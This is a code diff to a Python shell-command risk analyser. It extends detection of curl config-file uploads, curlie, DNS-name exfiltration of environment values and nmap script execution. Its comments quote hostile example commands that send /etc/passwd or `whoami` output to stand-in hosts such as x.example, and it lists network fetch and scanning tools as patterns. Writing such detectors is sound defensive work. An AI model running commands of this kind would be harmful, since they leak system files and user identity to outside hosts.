@@ -126,7 +126,7 @@ def _trust_root_deleted(cmd: Cmd) -> bool:
 @handles(
     *names(
         """
-    curl wget fetch http https xh aria2c lwp-request lynx
+    curl wget fetch http https xh aria2c lwp-request lynx curlie
     certutil bitsadmin
     """
     )
@@ -215,6 +215,13 @@ def _fetch(cmd: Cmd) -> None:
             f"{n} downloads a file with a Windows system tool (a common way to fetch malware)",
         )
         return
+    if (
+        n == "curl"
+        and cmd.argv.dashed
+        and ("--config" in cmd.argv.joined_low or cmd.short("K"))
+        and _curl_config_known(cmd)
+    ):
+        return
     uploads: list[tuple[str, bool]] = []
     for i, w in enumerate(cmd.args):
         t = w.text
@@ -240,15 +247,20 @@ def _fetch(cmd: Cmd) -> None:
                 val = val[re.search(r"[@<]", val).start() :]  # type: ignore[union-attr]
         elif re.fullmatch(r"-[dFT].+", t):
             val = t[2:] if t[1] != "T" else "@" + t[2:]
-        elif n == "curl" and re.fullmatch(r"-[a-zA-Z]*[dFT]", t) and i + 1 < len(cmd.args):
+        elif (
+            n in ("curl", "curlie")
+            and re.fullmatch(r"-[a-zA-Z]*[dFT]", t)
+            and i + 1 < len(cmd.args)
+        ):
             # bundled short options ending in one that takes a value: `-sF "f=@…"`, `-sT FILE`
             word = cmd.args[i + 1]
             val = word.text if t[-1] != "T" else "@" + word.text
         else:
             continue
         uploads.append((val.split("=", 1)[-1] if not val.startswith("@") else val, word.dynamic))
-    if n in ("http", "https", "xh", "xhs"):
-        # HTTPie: `@file` is the body, `field@file` / `field=@file` embed files.
+    if n in ("http", "https", "xh", "xhs", "curlie"):
+        # HTTPie: `@file` is the body, `field@file` / `field=@file` embed files (and
+        # curlie's, which takes curl's options and HTTPie's items, h20).
         for w in cmd.args:
             if re.match(r"\A(?:@|[\w.-]+=?@)(?!\S*://)(\S+)", w.text):
                 uploads.append(("@" + w.text.split("@", 1)[1], w.dynamic))
@@ -321,6 +333,63 @@ def _fetch(cmd: Cmd) -> None:
     if method is not None and method.text.upper().removeprefix("-X") == "DELETE":
         http_delete(cmd, method)
     cmd.add(M, "network", f"{n} talks to the network")
+
+
+def _curlrc_option(line: str) -> tuple[str, str] | None:
+    """(h20) One line of a curl config file: `name = value`, `name: value`, `--name value`
+    or a bare `name`, as (name, value); None for comments and blank lines (a scan: no
+    regex with adjacent whitespace runs)."""
+    text = line.strip()
+    if not text or text.startswith("#"):
+        return None
+    text = text.lstrip("-")
+    end = 0
+    while end < len(text) and end < 48 and (text[end].isalnum() or text[end] in "-_"):
+        end += 1
+    if end == 0 or not text[0].isalpha():
+        return None
+    rest = text[end:].lstrip()
+    if rest[:1] in ("=", ":"):
+        rest = rest[1:].lstrip()
+    return text[:end], rest
+
+
+def _curl_config_known(cmd: Cmd) -> bool:
+    """(h20) `curl -K <(echo 'url=x.example'; echo 'data=@/etc/passwd')`, `curl -K - <<<
+    …`: a config file whose text is known here is read as the options it sets (`data`,
+    `upload-file`, `form` …), judged with the rest of the line. True if judged so."""
+    for i, w in enumerate(cmd.args):
+        t = w.text
+        if (t == "--config" or re.fullmatch(r"-[a-zA-Z]{0,8}K", t)) and i + 1 < len(cmd.args):
+            value = cmd.args[i + 1]
+            rest = [*cmd.args[:i], *cmd.args[i + 2 :]]
+        elif t.startswith("--config="):
+            value = Word(t[len("--config=") :], w.start, w.end, w.dynamic, w.glob, w.origin)
+            rest = [*cmd.args[:i], *cmd.args[i + 1 :]]
+        else:
+            continue
+        if value.text == "-" and cmd.stdin.kind == STDIN_STATIC:
+            text = cmd.stdin.text
+        elif value.dynamic and value.origin in ("static", "decoded"):
+            text = value.text
+        else:
+            return False
+        extra: list[Word] = []
+        for line in text.splitlines()[:200]:
+            option = _curlrc_option(line)
+            if option is None:
+                continue
+            key, arg = option[0].lower(), option[1].strip()
+            if len(arg) > 1 and arg[0] == arg[-1] and arg[0] in "\"'":
+                arg = arg[1:-1]
+            if key in ("config", "k"):
+                return False  # a config naming another config: not followed here
+            extra.append(Word(f"--{key}", value.start, value.end))
+            if arg:
+                extra.append(Word(arg, value.start, value.end))
+        cmd.judge([cmd.words[0], *rest, *extra])
+        return True
+    return False
 
 
 def _http_method(cmd: Cmd) -> Word | None:
@@ -1319,7 +1388,7 @@ RESOLVERS = frozenset(
         nslookup dig drill host kdig delv doggo dog adnshost avahi-resolve
         avahi-resolve-host-name nmblookup resolvectl systemd-resolve getent ping ping6 fping
         hping3 traceroute traceroute6 tracepath tracert pathping mtr whois resolve-dnsname
-        test-connection test-netconnection
+        test-connection test-netconnection nmap masscan nping arping
         """
     )
 )
@@ -1340,6 +1409,22 @@ def _ps_known(env: dict[str, str]) -> Callable[[re.Match[str]], str]:
     return sub
 
 
+# (h20) Environment variables the analyser reads as a stand-in value (`$USER` is `user`,
+# `$HOME` is `~`): in a looked-up name they are this machine's value, sent to the domain.
+_MACHINE_VAR = re.compile(r"\$\{?(USER|HOME|USERPROFILE|PWD|SHELL|PATH|BASH|LOGNAME|USERNAME)\b")
+
+
+def _machine_value_in_name(cmd: Cmd, raw: str) -> bool:
+    """(h20) `dig $USER.x.example`, `host "${HOME}.x.example"`: a stand-in value read
+    from the environment (not set in this block) in front of a public domain."""
+    m = _MACHINE_VAR.search(raw)
+    return (
+        m is not None
+        and m.group(1) not in cmd.scope.env
+        and _RUNTIME_NAME.search(raw.replace('"', "").replace("'", "")) is not None
+    )
+
+
 def dns_exfiltration(cmd: Cmd) -> bool:
     """Add the exfiltration finding when a resolver is handed a name (or a ping payload)
     holding a command's output or a run-time value in front of a public domain."""
@@ -1349,6 +1434,15 @@ def dns_exfiltration(cmd: Cmd) -> bool:
     for w in cmd.args:
         raw = src[max(w.start, 0) : max(w.end, 0)]
         if not w.dynamic and "$(" not in raw and "`" not in raw:
+            if "$" in raw and cmd.scope.family == "bash" and _machine_value_in_name(cmd, raw):
+                cmd.add(
+                    C,
+                    "exfiltration",
+                    f"{cmd.name} puts this machine's user, home or host name in a DNS name"
+                    " (exfiltration)",
+                    w,
+                )
+                return True
             continue
         if cmd.scope.family == "powershell" and "$" in raw:
             # a variable this block set to a literal (`foreach ($h in 'a','b')`) is that text
@@ -1718,6 +1812,30 @@ def carry_secrets(cmd: Cmd) -> None:
 # what the peer sends. `scope.env[SOCKET_OPEN]` records that such a descriptor is open (a key
 # no variable can have, so the judgement cache sees it); the redirect judge reads it.
 SOCKET_OPEN = "\x00socket-open"
+
+
+@handles("nmap")  # (h20: moved from system.py to reach dns_exfiltration)
+def _nmap(cmd: Cmd) -> None:
+    """nmap scans (network, moderate); `--interactive` has a shell escape and `--script`
+    runs a Lua script (local code)."""
+    if cmd.has("--interactive"):
+        cmd.add(C, "config-exec", "nmap --interactive offers a shell escape (!sh)")
+        return
+    if dns_exfiltration(cmd):
+        return  # (h20) `nmap -sL $(whoami).x.example`: the name looked up carries data
+    for _, v in system.opt_values(cmd, "--script"):
+        if v.dynamic and v.origin in ("static", "decoded"):
+            # `nmap --script <(echo 'os.execute(…)')`: the script's text is known: Lua.
+            system._judge_embedded(cmd, Word(v.text, v.start, v.end), "nmap's Lua script", "lua")
+            cmd.add(M, "local-script", "nmap runs a Lua script", v)
+        elif v.dynamic or any(
+            "/" in part or part.endswith((".nse", ".lua")) or part.startswith("~")
+            for part in v.text.split(",")
+        ):
+            # A script file of one's own (not one of nmap's categories or bundled names):
+            # Lua with `os.execute`, run by a scanner often started as root, and unread here.
+            cmd.add(C, "local-script", "nmap runs a Lua script file the analyser cannot read", v)
+    cmd.add(M, "network", "nmap scans hosts")
 
 
 @handles("ztcp", "zsocket")
